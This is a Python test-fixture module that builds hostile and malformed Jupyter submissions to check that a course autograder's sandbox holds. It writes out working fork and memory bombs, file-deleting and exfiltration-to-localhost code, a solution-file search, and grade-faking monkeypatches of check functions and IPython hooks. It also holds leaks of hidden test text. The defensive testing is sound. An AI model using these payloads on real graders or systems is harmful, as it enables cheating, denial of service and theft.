"""Submissions of lab 1 that a grader must survive: right, wrong, broken and hostile ones.

Each :class:`Case` builds one submission file from the student version of lab 1 and says what
the gradebook must show for it: the points of each check and the status. Hostile code is
written so that it *gains* points when the sandbox or the seal fails (e.g. it defines the answer
only after reading the solutions from disk, or only if a fork bomb was stopped early), so a
broken defence shows up as a wrong score, not only as a side effect.

Lab 1's checks, in order: accuracy, balanced error rate, the hidden check (both on a second
problem), ROC curve, IoU matrix; one point each.
"""

from __future__ import annotations

import copy
import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
LAB = "lab01_measures"
SOURCE = ROOT / "labs" / "solutions" / f"{LAB}.ipynb"
STUDENT = ROOT / "labs" / f"{LAB}.ipynb"
ACC, BER, ROC, IOU = "30f74f54", "f0616878", "56476bbf", "ce29af79"  # answer cells
CHECKS = ["5f56fc7f", "384435d5", "hidden-another-problem", "7bee7dec", "ca6975fb"]
CHECK_CELLS = ["5f56fc7f", "384435d5", "7bee7dec", "ca6975fb"]  # visible in the student version


@dataclass
class Context:
    """What hostile submissions aim at, set up by the test."""

    submissions: Path
    out: Path
    port: int  # a TCP listener on 127.0.0.1 in the test process
    sentinels: list[Path]  # files the submissions try to delete
    forbidden: list[Path]  # files the submissions try to create


def _source_cells() -> dict[str, str]:
    nb = json.loads(SOURCE.read_text())
    return {c["id"]: "".join(c["source"]) for c in nb["cells"]}


RIGHT = {cell_id: _source_cells()[cell_id] for cell_id in (ACC, BER, ROC, IOU)}
WRONG = {
    ACC: "def accuracy(predicted, labels):\n    return 0.5",
    BER: "def balanced_error_rate(predicted, labels):\n    return 0.5",
    ROC: "binary = torch.tensor([1, 0, 1, 1, 0, 0, 1, 0, 0, 0, 1, 0])\n"
         "scores = torch.tensor([0.9, 0.8, 0.75, 0.6, 0.55, 0.5, 0.45, 0.4, 0.3, 0.2, 0.15, 0.1])\n\n"
         "def roc_points(scores, binary):\n    return torch.zeros(13), torch.zeros(13)\n\n"
         "def area_under(fpr, tpr):\n    return 0.0",
    IOU: "def iou_matrix(a, b):\n    return torch.zeros(len(a), len(b))",
}


def notebook(answers: dict[str, str] | None = None, before: dict[str, str] | None = None,
             after: dict[str, str] | None = None, added: list[tuple[str, str]] = ()) -> dict:
    """The student version with answer cells replaced (``before``/``after`` code put around an
    answer), and cells added after the given cell ids."""
    nb = json.loads(STUDENT.read_text())
    answers, before, after = dict(answers or {}), before or {}, after or {}
    for cell in nb["cells"]:
        cell_id = cell["id"]
        if cell_id in answers or cell_id in before or cell_id in after:
            body = answers.get(cell_id, "".join(cell["source"]))
            parts = [textwrap.dedent(before[cell_id])] if cell_id in before else []
            parts.append(body)
            if cell_id in after:
                parts.append(textwrap.dedent(after[cell_id]))
            cell["source"] = "\n".join(parts)
    for k, (after_id, code) in enumerate(added):
        index = next(i for i, c in enumerate(nb["cells"]) if c["id"] == after_id)
        nb["cells"].insert(index + 1, {"cell_type": "code", "id": f"student-added-{k}", "metadata": {},
                                       "execution_count": None, "outputs": [], "source": textwrap.dedent(code)})
    return nb


def dump(nb: dict) -> bytes:
    return json.dumps(nb, indent=1).encode()


@dataclass
class Case:
    name: str
    build: Callable[[Context], bytes]
    earned: list[float]  # points per check, in CHECKS order
    status: str
    flagged: bool = False
    suffix: str = ".ipynb"
    unshare: bool = False  # also graded in the fallback sandbox
    notes: list[str] = field(default_factory=list)


def _right(**kwargs) -> Callable[[Context], bytes]:
    return lambda ctx: dump(notebook(RIGHT, **kwargs))


ALL, NONE = [1, 1, 1, 1, 1], [0, 0, 0, 0, 0]
WRONG_BUT_IOU = {**WRONG, IOU: RIGHT[IOU]}

# --- hostile code -----------------------------------------------------------------------------

INFINITE_LOOP = "while True:\n    pass"
STUBBORN_LOOP = """\
import time
while True:  # ignores the interrupt
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""
MEMORY_BOMB = """\
def bomb():
    blocks = []
    while True:
        blocks.append(bytearray(64 * 2**20))
bomb()
"""
FORK_MEMORY = """\
import os, time
children = []
for _ in range(20):  # each child holds 250 MB more than the kernel: 5 GB in all, well over the sandbox's total
    pid = os.fork()
    if pid == 0:
        try:
            block = b"x" * (250 * 2**20)
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
while True:  # wait for the grader, whatever happens
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""
# Forks from a small helper process (quick to copy) and keeps every child it could start.
FORK_BOMB = '''\
import subprocess, sys
bomb = """
import os, signal, time
pids = []
try:
    for _ in range(300):  # bounded even if nothing stops it
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        pids.append(pid)
except OSError:
    pass
for pid in pids:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
print(len(pids))
"""
started = int(subprocess.run([sys.executable, "-c", bomb], capture_output=True, text=True, timeout=60).stdout)
assert started < 64, f"{started} processes started: no process limit"
'''
PRINT_BOMB = """\
for _ in range(300):  # 300 MB, a megabyte at a time
    print("x" * 2**20)
"""
PRINT_ONCE = 'print("y" * (100 * 2**20))  # one 100 MB message'


def escape(ctx: Context) -> bytes:
    """Deletes and writes files outside its folder, and calls a server on the grader's 127.0.0.1."""
    code = f"""\
    import os, shutil, socket
    for path in {[str(p) for p in ctx.sentinels]!r}:
        try:
            os.remove(path)
        except OSError:
            pass
    for path in {[str(p) for p in ctx.forbidden]!r}:
        try:
            with open(path, "w") as f:
                f.write("written from a submission")
        except OSError:
            pass
    for folder in {[str(ctx.submissions), str(ctx.out)]!r}:
        shutil.rmtree(folder, ignore_errors=True)
    with open(os.path.expanduser("~/mine.txt"), "w") as f:  # its own folder: allowed
        f.write("fine")
    try:
        with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=3) as s:
            s.sendall(b"stolen answers")
    except OSError:
        pass
    try:
        socket.getaddrinfo("example.com", 80)
    except OSError:
        pass
    """
    return dump(notebook(RIGHT, after={ACC: code}))


def read_source(ctx: Context) -> bytes:
    """Defines accuracy() only if it finds a copy of the solutions anywhere it can read."""
    code = f"""\
    import json, os, time
    candidates = [{str(SOURCE)!r}, {str(ctx.out / "rebuilt" / "right.ipynb")!r}, {str(ctx.submissions / "right.ipynb")!r}]
    start = time.monotonic()
    for top in ["/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt", "/var", "/farm"]:
        for folder, _, files in os.walk(top):
            candidates += [os.path.join(folder, f) for f in files if f.endswith("{LAB}.ipynb")]
            if time.monotonic() - start > 5:
                break
    for path in candidates:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            text = "".join(cell["source"])
            if text.startswith("def accuracy") and "NotImplementedError" not in text:
                exec(text)
    """
    return dump(notebook({**RIGHT, ACC: "# accuracy() comes from whatever the code above found"}, before={ACC: code}))


# `import cvbook.labs.check as m` gives the function (the package re-exports it): the module is in sys.modules.
FAKE_CHECK = """\
import sys
import cvbook.labs
genuine_module = sys.modules["cvbook.labs.check"]
genuine = genuine_module.check

def fake_check(name, got, expected, **kwargs):
    genuine(name, expected, expected, **kwargs)  # prints exactly the success line

check = fake_check
cvbook.labs.check = fake_check
genuine_module.check = fake_check
"""
FAKE_CODE = """\
import sys, types
module = sys.modules["cvbook.labs.check"]
module.genuine_copy = types.FunctionType(module.check.__code__, module.__dict__, "genuine_copy")
module.genuine_copy.__kwdefaults__ = module.check.__kwdefaults__

def fake(name, got, expected, *, atol=1e-6, rtol=1e-6):
    genuine_copy(name, expected, expected)

module.check.__code__ = fake.__code__
"""
FAKE_COMPARISON = """\
import numpy, torch
numpy.allclose = lambda *args, **kwargs: True
numpy._core.numeric.isclose = lambda a, b, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
torch.Tensor.__ne__ = lambda self, other: torch.tensor(False)
torch.allclose = lambda *args, **kwargs: True
"""
# The IoU check's reference is a library function (lab 1's other checks compare with values
# worked out by hand): an answer that forgets to clamp the overlap (wrong for disjoint boxes,
# right for the check of two overlapping boxes), and the reference replaced by that answer (in
# exercise 1's cell: in exercise 4's, the grader would score that exercise 0 for calling box_iou).
UNCLAMPED_IOU = RIGHT[IOU].replace(".clamp(min=0)", "")
assert UNCLAMPED_IOU != RIGHT[IOU], "lab 1's IoU answer no longer clamps with .clamp(min=0)"
FAKE_REFERENCES = """\
import cvbook.boxes

def box_iou(a, b):
    return iou_matrix(a, b)

cvbook.boxes.box_iou = box_iou
"""
FAKE_TRANSFORMER = """\
import sys
module = sys.modules["cvbook.labs.check"]
honest = module.check
def lenient(name, got, expected, **kwargs):
    honest(name, expected, expected, **kwargs)
module.lenient = lenient
get_ipython().input_transformers_post.append(
    lambda lines: [line.replace("check(", "__import__('sys').modules['cvbook.labs.check'].lenient(") for line in lines])
"""
FAKE_HANDLER = """\
import re
def handler(shell, kind, value, tb, tb_offset=None):
    match = re.match(r"✗ (.*?): got ", str(value))
    if match:  # the success line of a floating-point check
        print(f"✓ {match[1]}: matches the expected value")
get_ipython().set_custom_exc((AssertionError,), handler)
"""
# --- leaking the hidden check ------------------------------------------------------------------
# Each collects the text of the cells the kernel runs later (the hidden check among them) and
# raises what it found in a last cell of its own, whose error the feedback would show. Undefended
# (plain nbval) each leaks (test_grade_attacks.py); graded, none may (test_grade_sandbox.py).
HIDDEN_MARK = "labels_b"  # a name only the hidden check's text holds (the attacks write it in two parts)
LEAK_RAISE = f"""\
leaked = [text for text in collected if {HIDDEN_MARK[:4]!r} + {HIDDEN_MARK[4:]!r} in text]
raise ValueError("\\n".join(leaked) if leaked else "nothing collected")
"""
LEAK_RAISE_ENCODED = f"""\
import base64
leaked = [text for text in collected if {HIDDEN_MARK[:4]!r} + {HIDDEN_MARK[4:]!r} in text]
raise ValueError(base64.b64encode("\\n".join(leaked).encode()).decode() if leaked else "nothing collected")
"""
LEAKS = {
    "leak_events": """\
collected = []
get_ipython().events.register("pre_run_cell", lambda info: collected.append(info.raw_cell))
""",
    "leak_transformer": """\
collected = []
get_ipython().input_transformers_cleanup.append(lambda lines: collected.append("".join(lines)) or lines)
""",
    "leak_ast": """\
import ast
collected = []
class Keep(ast.NodeTransformer):
    def visit_Module(self, node):
        collected.append(ast.unparse(node))
        return node
get_ipython().ast_transformers.append(Keep())
""",
    "leak_trace": """\
import linecache, sys
collected = []
def tracer(frame, event, arg):
    if event == "call":
        collected.append("".join(linecache.getlines(frame.f_code.co_filename)))
    return None
sys.settrace(tracer)
""",
    "leak_class_patch": """\
collected = []
shell_class = type(get_ipython())
original = shell_class.transform_cell
def spy(self, raw_cell):
    collected.append(raw_cell)
    return original(self, raw_cell)
shell_class.transform_cell = spy
""",
    "leak_custom_exc": """\
import linecache
collected = []
def handler(shell, kind, value, tb, tb_offset=None):
    while tb is not None:
        code = tb.tb_frame.f_code
        collected.append("".join(linecache.getlines(code.co_filename)) + repr(code.co_consts))
        tb = tb.tb_next
    print(f"{kind.__name__}: {value}")
get_ipython().set_custom_exc((KeyError,), handler)
""",
}
# reads the history and the cached text of every cell at the end
LEAK_HISTORY = """\
import linecache
collected = [str(x) for x in list(In) + list(_ih) + list(Out.values())]
collected += ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2]
collected += [str(value) for name, value in list(globals().items()) if name.startswith("_i")]
"""
# inside a check, the student's function reads its caller's frames: no reset can stop this in the
# kernel, so only the feedback's redaction does (the text is sent base64-encoded, too)
LEAK_FRAMES = """\
import sys
collected = []
def accuracy(predicted, labels):
    frame = sys._getframe(1)
    while frame is not None:  # the check's constants, and the cell's text in the shell's and kernel's locals
        collected.append(repr(frame.f_code.co_consts) + repr([v for v in frame.f_locals.values() if isinstance(v, str)]))
        frame = frame.f_back
    return (predicted == labels).float().mean().item()
"""
# raises KeyError only on the hidden check's 8 labels, so that the custom handler runs there
ACC_KEYERROR = """\
def accuracy(predicted, labels):
    if len(labels) == 8:
        raise KeyError("eight")
    return (predicted == labels).float().mean().item()
"""


def leak(name: str) -> Callable[[Context], bytes]:
    """The submission of one leak attack (right answers, so that its only aim is the leak)."""
    if name == "leak_history":
        return lambda ctx: dump(notebook(RIGHT, added=[("ca6975fb", LEAK_HISTORY + LEAK_RAISE)]))
    if name == "leak_frames":
        return lambda ctx: dump(notebook({**RIGHT, ACC: LEAK_FRAMES}, added=[("ca6975fb", LEAK_RAISE_ENCODED)]))
    answers = {**RIGHT, ACC: ACC_KEYERROR} if name == "leak_custom_exc" else RIGHT
    return lambda ctx: dump(notebook(answers, before={ACC: LEAKS[name]}, added=[("ca6975fb", LEAK_RAISE)]))


LEAK_CASES = [*LEAKS, "leak_history", "leak_frames"]


# the first error of the student's own code is in an early answer, a loop in a late one; and an
# early answer cell that raises before its definition (the feedback leads with that error)
EARLY_ERROR = "def accuracy(predicted, labels):\n    return ratio(predicted, labels)\n\ndef ratio(p, l):\n    return 1 / 0\n"
LATE_LOOP = "import time\nwhile True:\n    time.sleep(0.01)"
EARLY_CELL = "raise ValueError('my own early mistake')\n"

LIBRARY_IOU = """\
import torchvision.ops as ops

def iou_matrix(a, b):
    return ops.box_iou(a, b)
"""


def tampered_checks(ctx: Context) -> bytes:
    """Accuracy and balanced error rate answered; the ROC and IoU answers missing, their check
    cells replaced by the success lines they should print and re-tagged; the other check cells
    deleted, duplicated, moved and un-tagged."""
    nb = notebook({ACC: RIGHT[ACC], BER: RIGHT[BER]})
    source = json.loads(SOURCE.read_text())
    printed = {c["id"]: "".join("".join(o.get("text", "")) for o in c.get("outputs", [])) for c in source["cells"]}
    cells = nb["cells"]
    for cell in cells:
        if cell["id"] in ("7bee7dec", "ca6975fb"):
            cell["source"] = f"print({printed[cell['id']].rstrip()!r})"
            cell["metadata"]["tags"] = ["nbval-skip", "raises-exception"]
    by_id = {c["id"]: c for c in cells}
    cells[:] = [c for c in cells if c["id"] != "5f56fc7f"]
    cells.insert(3, copy.deepcopy(by_id["384435d5"]))
    cells.append(copy.deepcopy(by_id["5f56fc7f"]))
    for cell in cells:
        if cell["id"] == "384435d5":
            cell["metadata"].pop("tags", None)
    return dump(nb)


def old_format(ctx: Context) -> bytes:
    """Right answers in nbformat 3 (no cell ids): answers found by their text."""
    nb4 = nbformat.reads(json.dumps(notebook(RIGHT)), as_version=4)
    return nbformat.writes(nbformat.convert(nb4, 3), version=3).encode()


def no_ids(ctx: Context) -> bytes:
    """Right answers in nbformat 4.4 (no cell ids), accuracy() written with a helper cell the
    student added above it."""
    helper = "def mean_of(flags):\n    return flags.float().mean().item()"
    answers = {**RIGHT, ACC: "def accuracy(predicted, labels):\n    return mean_of(predicted == labels)"}
    nb = notebook(answers, added=[("b307b5d3", helper)])
    nb["nbformat_minor"] = 4
    for cell in nb["cells"]:
        cell.pop("id", None)
    return dump(nb)


CASES = [
    Case("right", _right(), ALL, "graded", unshare=True),
    Case("empty", lambda ctx: STUDENT.read_bytes(), NONE, "graded"),
    # the hidden check's accuracy call passes, its balanced error rate call fails: half its point
    Case("partly_wrong", lambda ctx: dump(notebook({ACC: RIGHT[ACC], BER: WRONG[BER], ROC: RIGHT[ROC]})),
         [1, 0, 0.5, 1, 0], "graded"),
    # the ROC check cell makes three check() calls; with area_under wrong, two of them pass
    Case("partial_credit", lambda ctx: dump(notebook({**RIGHT, ROC: RIGHT[ROC].replace(
        "def area_under(", "def area_under_right(") + "\n\ndef area_under(fpr, tpr):\n    return 0.5"})),
         [1, 1, 1, round(2 / 3, 4), 1], "graded"),
    Case("infinite_loop", _right(after={ACC: INFINITE_LOOP}), ALL, "timeout"),
    # the grader takes submissions by name, two at a time: this one waits out its time limit, so its
    # name puts it mid-run (as "stubborn_loop", graded last but one, it left the other job idle ~25 s)
    Case("ignores_interrupts", _right(after={ROC: STUBBORN_LOOP}), [1, 1, 1, 0, 0], "timeout"),
    # sys.exit() raises SystemExit, which the kernel survives; os._exit() ends the kernel
    Case("exits", _right(before={BER: "import sys\nsys.exit('I give up')", IOU: "import os\nos._exit(3)"}),
         [1, 0, 0.5, 1, 0], "crashed", flagged=True),
    Case("segfault", _right(before={IOU: "import ctypes\nctypes.string_at(0)"}), [1, 1, 1, 1, 0], "crashed", flagged=True),
    # MemoryError at the per-process limit (the kernel survives, but keeps the bomb's memory in the
    # traceback IPython saves, so forked children would inherit it: the two bombs go separately)
    Case("memory_bomb", _right(before={ACC: MEMORY_BOMB}), [0, 1, 0, 1, 1], "memory"),
    # forked children that hold more memory together than the submission may use: all stopped
    Case("fork_memory", _right(after={IOU: FORK_MEMORY}), [1, 1, 1, 1, 0], "memory", flagged=True),
    Case("fork_bomb", _right(before={ACC: FORK_BOMB}), ALL, "graded", flagged=True, unshare=True),
    Case("print_bomb", _right(after={ROC: PRINT_BOMB, IOU: PRINT_ONCE}), ALL, "graded"),
    Case("escape", escape, ALL, "graded", flagged=True, unshare=True),
    Case("read_source", read_source, [0, 1, 0, 1, 1], "graded", flagged=True, unshare=True),
    Case("fake_check", lambda ctx: dump(notebook(WRONG_BUT_IOU, before={ACC: FAKE_CHECK})), [0, 0, 0, 0, 1], "graded", True),
    Case("fake_code", lambda ctx: dump(notebook(WRONG_BUT_IOU, before={ACC: FAKE_CODE})), [0, 0, 0, 0, 1], "graded", True),
    Case("fake_comparison", lambda ctx: dump(notebook(WRONG_BUT_IOU, before={ACC: FAKE_COMPARISON})),
         [0, 0, 0, 0, 1], "graded", True),
    # the reference is genuine again in the check cell: its first call fails, the one by hand passes
    Case("fake_references", lambda ctx: dump(notebook({**WRONG, IOU: UNCLAMPED_IOU}, after={ACC: FAKE_REFERENCES})),
         [0, 0, 0, 0, 0.5], "graded", True),
    Case("fake_transformer", lambda ctx: dump(notebook(WRONG_BUT_IOU, before={ACC: FAKE_TRANSFORMER})),
         [0, 0, 0, 0, 1], "graded", True),
    Case("fake_handler", lambda ctx: dump(notebook(WRONG_BUT_IOU, before={ACC: FAKE_HANDLER})),
         [0, 0, 0, 0, 1], "graded", True),
    Case("tampered_checks", tampered_checks, [1, 1, 1, 0, 0], "graded", flagged=True),
    # iou_matrix() returns torchvision's answer (the lab's check compares with cvbook.boxes.box_iou):
    # flagged, and the IoU check scores 0 (cvbook-grade --allow-library keeps its point)
    Case("library_answer", lambda ctx: dump(notebook({**RIGHT, IOU: LIBRARY_IOU})), [1, 1, 1, 1, 0], "graded", flagged=True),
    *(Case(name, leak(name), [1, 1, 0, 1, 1] if name == "leak_custom_exc" else ALL, "graded", flagged=True)
      for name in LEAK_CASES),
    Case("early_error", lambda ctx: dump(notebook({**RIGHT, ACC: EARLY_ERROR}, after={IOU: LATE_LOOP})),
         [0, 1, 0, 1, 1], "timeout"),
    Case("early_cell", lambda ctx: dump(notebook({**RIGHT, BER: EARLY_CELL + RIGHT[BER]})), [1, 0, 0.5, 1, 1], "graded"),
    Case("old_format", old_format, ALL, "graded"),
    Case("no_ids", no_ids, ALL, "graded"),
    Case("malformed_json", lambda ctx: dump(notebook(RIGHT))[:5000], NONE, "invalid-notebook"),
    Case("not_a_notebook", lambda ctx: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, NONE, "invalid-notebook"),
    Case("python_file", lambda ctx: b"def accuracy(p, l):\n    return 0.7\n", NONE, "invalid-notebook", suffix=".py"),
]


def write(cases: list[Case], ctx: Context) -> None:
    """Write the submissions of ``cases`` into ``ctx.submissions``."""
    ctx.submissions.mkdir(parents=True, exist_ok=True)
    for case in cases:
        (ctx.submissions / f"{case.name}{case.suffix}").write_bytes(case.build(ctx))
